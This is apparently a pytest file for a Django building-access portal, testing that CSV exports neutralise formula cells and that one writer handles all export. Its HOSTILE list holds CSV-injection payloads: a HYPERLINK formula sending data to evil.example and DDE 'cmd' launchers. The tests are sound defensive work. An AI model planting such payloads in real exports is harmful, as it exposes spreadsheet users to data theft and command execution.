"""CSV exports neutralise formula cells (CSV injection), and every export goes through one writer."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest
from django.urls import reverse

from portal.core.csvexport import CsvRowWriter
from portal.dashboard.services import door_release
from tests.dashboard.conftest import FRONT_DOOR, crimson  # noqa: F401 - the fixture
from tests.logs.factories import call_for, entry_for

ROOT = Path(__file__).resolve().parents[2]
WRITER_MODULE = ROOT / "portal" / "core" / "csvexport.py"

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def parse(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def is_neutralised(cell: str) -> bool:
    return cell.startswith("'")


@pytest.mark.parametrize("value", HOSTILE)
def test_the_writer_prefixes_every_formula_trigger(value):
    line = CsvRowWriter().writerow([value])

    (cell,) = next(csv.reader(io.StringIO(line)))
    assert cell == "'" + value.replace("|", "\\|")


@pytest.mark.parametrize(
    "value",
    ["-3", "-1,234.5", "12.5", "2026-03-10T12:00:00-05:00", "2026-03-10 12:00:00", "Alice Able", "4B", "", "EST"],
)
def test_numbers_timestamps_and_plain_text_stay_as_they_are(value):
    line = CsvRowWriter().writerow([value])

    assert next(csv.reader(io.StringIO(line))) == [value]


def test_a_resident_name_and_unit_reach_the_access_log_csv_neutralised(world, client):
    entry_for(world.building_a, remote_id=1, unit=world.unit_a1, door=world.door_a, person_name=HOSTILE[0])
    entry_for(world.building_a, remote_id=2, unit=world.unit_a1, door=world.door_a, person_name=HOSTILE[4])
    client.force_login(world.manager)

    rows = parse(client.get(reverse("logs:export")))

    assert sorted(r["Person"] for r in rows) == sorted(["'" + HOSTILE[4], "'" + HOSTILE[0]])
    assert all(r["Time"][:4].isdigit() for r in rows)  # the portal's own timestamps are untouched


def test_a_panel_name_and_unit_label_reach_the_calls_csv_neutralised(world, client):
    call_for(world.building_a, remote_id=1, unit=world.unit_a1, device_name=HOSTILE[3], unit_label=HOSTILE[1])
    client.force_login(world.manager)

    (row,) = parse(client.get(reverse("logs:calls_export")))

    assert is_neutralised(row["Panel"]) and is_neutralised(row["Unit"])
    assert row["Panel"].endswith("SUM(1+1)*cmd\\|' /C calc'!A0")


def test_a_release_reason_reaches_the_audit_csv_neutralised(crimson, sandbox, client):  # noqa: F811
    door_release(user=crimson.staff, door_id=crimson.doors[FRONT_DOOR].pk, reason="+cmd|' /C calc'!A0")
    client.force_login(crimson.manager)

    (row,) = parse(client.get(reverse("dashboard:audit_csv")))

    assert row["reason"] == "'+cmd\\|' /C calc'!A0"
    assert row["requested_at_local"][:4].isdigit() and row["door"] == "Front door"


def _python_files():
    for path in ROOT.rglob("*.py"):
        parts = path.relative_to(ROOT).parts
        if parts[0] in {".venv", "tests", "var", "node_modules", "static"} or "site-packages" in parts:
            continue
        yield path


def _csv_writers_in(path: Path) -> list[str]:
    """Every use of a CSV writer (``csv``/``defusedcsv`` ``writer``/``DictWriter``) in one file."""
    tree = ast.parse(path.read_text(), filename=str(path))
    modules = {"csv", "defusedcsv", "defusedcsv.csv"}
    aliases = set()
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            aliases |= {a.asname or a.name for a in node.names if a.name in modules}
        elif isinstance(node, ast.ImportFrom) and node.module in modules:
            found += [f"from {node.module} import {a.name}" for a in node.names if a.name in ("writer", "DictWriter")]
            if node.module == "defusedcsv":  # from defusedcsv import csv [as x]
                aliases |= {a.asname or a.name for a in node.names if a.name == "csv"}
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Attribute)
            and node.attr in ("writer", "DictWriter")
            and isinstance(node.value, ast.Name)
            and node.value.id in aliases
        ):
            found.append(f"{node.value.id}.{node.attr} (line {node.lineno})")
    return found


def test_no_code_writes_csv_except_through_the_one_writer():
    offenders = {
        str(path.relative_to(ROOT)): uses
        for path in _python_files()
        if path != WRITER_MODULE and (uses := _csv_writers_in(path))
    }

    assert not offenders, f"write CSV through portal.core.csvexport.csv_response: {offenders}"
    assert _csv_writers_in(WRITER_MODULE)  # the walker does see a writer where there is one
